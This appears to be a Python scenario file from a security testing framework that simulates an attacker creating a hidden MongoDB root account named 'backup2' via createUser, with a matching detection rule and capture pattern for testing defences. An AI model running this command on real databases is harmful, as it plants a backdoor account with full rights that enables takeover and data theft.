"""G5: the attacker creates a MongoDB account with all rights."""

from backwatch.attack.scenarios import SECRET
from backwatch.attack.techniques.mongodb import AbusedMongoDB


class MongodbAddsAccount(AbusedMongoDB):
    """On PyMongo, in an app whose account may do everything."""

    code = "G5"
    attack = "makes an account of the attacker's that may do everything"
    reference = "https://www.mongodb.com/docs/manual/reference/command/createUser/; ATT&CK T1136"
    rule = "privilege-escalation"
    captures = b"createUser backup2"

    def meet(self) -> None:
        """Create the account as the attacker."""
        self.shared["shop"].command("createUser", "backup2", pwd=SECRET, roles=[{"role": "root", "db": "admin"}])
